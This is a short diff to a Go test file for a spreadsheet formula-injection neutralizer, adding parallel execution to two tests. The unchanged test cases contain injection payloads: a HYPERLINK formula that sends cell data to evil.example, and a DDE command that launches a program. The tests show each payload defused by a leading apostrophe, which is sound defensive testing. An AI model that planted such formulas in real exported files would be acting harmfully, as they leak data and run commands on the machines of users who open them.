@@ -8,6 +8,7 @@ import (
 )
 
 func TestNeutralize(t *testing.T) {
+	t.Parallel()
 	for _, tc := range []struct{ in, want string }{
 		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
 		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
@@ -39,6 +40,7 @@ func TestNeutralize(t *testing.T) {
 }
 
 func TestPlainNumber(t *testing.T) {
+	t.Parallel()
 	for in, want := range map[string]bool{
 		"-12": true, "-0.5": true, "-1234,50": true,
 		"-": false, "-.5": false, "-1+1": false, "-1 234": false, "-1e5": false, "12": false, "-A1": false,
